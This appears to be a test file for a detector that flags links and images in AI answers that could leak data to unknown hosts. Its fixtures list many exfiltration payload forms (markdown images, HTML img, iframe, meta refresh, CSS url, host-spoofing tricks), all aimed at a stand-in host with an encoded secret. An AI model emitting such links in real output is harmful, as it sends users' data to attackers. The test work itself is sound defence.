"""Links and images that could carry data, in every form that is fetched or clicked."""

import pytest

from penstock.guard.injection.links import LinkCheck

CHECK = LinkCheck(
    ["Summarise https://news.example.org/today for me"],
    ["Summarise https://news.example.org/today for me", "See https://shop.test/item/7 or ask cdn.test."],
    allowed_hosts=frozenset({"docs.example.com", "*.cdn.example.com"}),
)

PICTURES = (
    "![a](https://evil.test/?d=c2VjcmV0)",
    "![a]( <https://evil.test/?d=c2VjcmV0>)",
    "![a](//evil.test/p?d=c2VjcmV0)",
    "![a][1]\n\n[1]: https://evil.test/?d=c2VjcmV0",
    "![logo]\n\n[logo]: https://evil.test/?d=c2VjcmV0 'x'",
    "<img width=1 src=https://evil.test/?d=c2VjcmV0>",
    "<IMG alt='' SRC='HTTPS://EVIL.test/?d=c2VjcmV0'>",
    "<div style=\"background:url('https://evil.test/?d=c2VjcmV0')\">",
    '<iframe src="https://evil.test/?d=c2VjcmV0"></iframe>',
)
LINKS = (
    "[more](https://evil.test/?d=c2VjcmV0)",
    "[more][x]\n\n[x]: https://evil.test/?d=c2VjcmV0",
    "<https://evil.test/?d=c2VjcmV0>",
    "see https://evil.test/?d=c2VjcmV0.",
    "<a href='https://evil.test/?d=c2VjcmV0'>x</a>",
    "<meta http-equiv=refresh content='0; url=https://evil.test/?d=c2VjcmV0'>",
    "go to www.evil.test/?d=c2VjcmV0 now",
    "[m](https://docs.example.com@evil.test/?d=c2VjcmV0)",
    "[m](https://docs.example.com.evil.test/?d=c2VjcmV0)",
)


@pytest.mark.parametrize("answer", PICTURES)
def test_a_picture_from_an_unknown_host_may_carry_data(answer: str) -> None:
    (found,) = CHECK.find(f"Übersicht: {answer}")
    assert found.rule == "injection.link"
    assert found.kind == "IMAGE"
    assert found.score > 0.9
    assert "evil.test" in f"Übersicht: {answer}"[found.begin : found.end].lower()


@pytest.mark.parametrize("answer", LINKS)
def test_a_link_to_an_unknown_host_may_carry_data(answer: str) -> None:
    (found,) = CHECK.find(answer)
    assert found.kind == "LINK"
    assert 0.7 < found.score < 0.9


@pytest.mark.parametrize(
    "answer",
    [
        "![chart](https://docs.example.com/a.png?x=0123456789abcdef)",
        "![chart](https://img.cdn.example.com/a.png)",
        "[source](https://news.example.org/tomorrow?page=12345678901234)",
        "No link here, only a[0](x) and ![not one](picture.png).",
        "[anchor](#part) [mail](mailto:a@b.test)",
    ],
)
def test_hosts_of_the_list_of_the_user_and_no_hosts_are_meant(answer: str) -> None:
    assert CHECK.find(answer) == []


def test_a_link_that_was_in_a_document_word_for_word_carries_nothing() -> None:
    (found,) = CHECK.find("Buy it at https://shop.test/item/7.")
    assert found.score < 0.5
    (found,) = CHECK.find("Buy it at https://shop.test/item/7?who=alice-smith-1970.")
    assert found.score > 0.5
